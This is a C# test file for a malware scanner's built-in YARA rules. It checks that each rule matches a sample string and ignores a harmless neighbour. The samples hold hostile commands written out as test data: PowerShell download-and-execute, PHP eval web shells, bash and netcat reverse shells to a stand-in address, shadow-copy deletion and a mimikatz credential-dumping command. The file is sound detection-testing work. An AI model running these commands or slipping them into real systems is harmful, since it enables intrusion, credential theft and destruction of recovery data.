using System.Text;
using ScanHost.Pipeline.Stages.Yara;
using ScanHost.Yara;

namespace ScanHost.Pipeline.Tests.Stages.Yara;

/// <summary>The rules that ScanHost brings: each finds its look-alike, and none its harmless neighbour. The look-alikes do nothing.</summary>
public sealed class OwnRulesTests
{
    private static readonly Lazy<LoadedRules> Loaded = new(() => RuleLoader.Load([], []));

    [Fact]
    public void They_compile_without_a_word()
    {
        Loaded.Value.Diagnostics.Should().BeEmpty();
        Loaded.Value.Set.Rules.All.Where(rule => !rule.IsPrivate).Should().AllSatisfy(rule =>
            rule.Metas.Select(meta => meta.Name).Should().Contain(["description", "score", "attack"]));
    }

    [Theory]
    [InlineData("ScanHost_PowerShell_Download_And_Run", "powershell -nop IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/')")]
    [InlineData("ScanHost_PowerShell_Encoded_Command", "powershell.exe -nop -w hidden -enc QQBBAEEAQQBBAEEAQQBBAEEAQQBBAEEAQQBBAEEAQQBBAEEAQQBBAEEAQQBBAEEAQQBBAEEAQQA=")]
    [InlineData("ScanHost_Php_Shell_Runs_Request", "<?php @eval($_POST['x']); ?>")]
    [InlineData("ScanHost_Php_Shell_Runs_Request", "<?php eval(base64_decode($_REQUEST[\"x\"])); ?>")]
    [InlineData("ScanHost_Shell_Reverse_Connection", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1")]
    [InlineData("ScanHost_Shell_Reverse_Connection", "nc -e /bin/sh 192.0.2.1 4444")]
    [InlineData("ScanHost_Script_Host_Downloader", "CreateObject(\"WScript.Shell\") CreateObject(\"MSXML2.XMLHTTP\") CreateObject(\"ADODB.Stream\") s.SaveToFile x : w.Run x")]
    [InlineData("ScanHost_Recovery_Sabotage", "vssadmin delete shadows /all /quiet & bcdedit /set {default} recoveryenabled no")]
    [InlineData("ScanHost_Coin_Miner", "stratum+tcp://pool.example.invalid:3333 --donate-level 1 randomx")]
    [InlineData("ScanHost_Credential_Dumper", "privilege::debug sekurlsa::logonpasswords")]
    [InlineData("ScanHost_Program_Of_Xored_Dos_Stub", "Vjkq\"rpmepco\"acllmv\"`g\"pwl\"kl\"FMQ\"omfg")]
    public void A_look_alike_is_found(string rule, string content) => Names(content).Should().Equal(rule);

    [Theory]
    [InlineData("Invoke-WebRequest https://example.invalid/file -OutFile file")]
    [InlineData("powershell -ExecutionPolicy Bypass -File build.ps1")]
    [InlineData("powershell -EncodedCommand is an option that takes base64")]
    [InlineData("<?php echo htmlspecialchars($_GET['x']); eval($code); ?>")]
    [InlineData("nc -l 4444; echo test > /dev/tcp/192.0.2.1/80; bash -i")]
    [InlineData("WScript.Shell MSXML2.XMLHTTP")]
    [InlineData("vssadmin list shadows; bcdedit /enum")]
    [InlineData("stratum+tcp:// is a protocol")]
    [InlineData("sekurlsa::logonpasswords is a command of a tool")]
    [InlineData("This program cannot be run in DOS mode")]
    public void A_harmless_neighbour_is_not(string content) => Names(content).Should().BeEmpty();

    [Fact]
    public void A_program_that_can_inject_is_found_and_a_list_of_functions_is_not()
    {
        const string Functions = "OpenProcess\0VirtualAllocEx\0WriteProcessMemory\0CreateRemoteThread\0";
        var program = new byte[512];
        "MZ"u8.CopyTo(program);
        program[0x3C] = 0x80;
        "PE\0\0"u8.CopyTo(program.AsSpan(0x80));
        Encoding.ASCII.GetBytes(Functions).CopyTo(program, 0x100);

        Names(Encoding.Latin1.GetString(program)).Should().Equal("ScanHost_Program_Injects_Into_Process");
        Names(Functions).Should().BeEmpty();
    }

    private static IEnumerable<string> Names(string content) =>
        new Scanner(Loaded.Value.Set.Rules).Scan(Encoding.Latin1.GetBytes(content)).Matches.Select(match => match.Rule.Name);
}
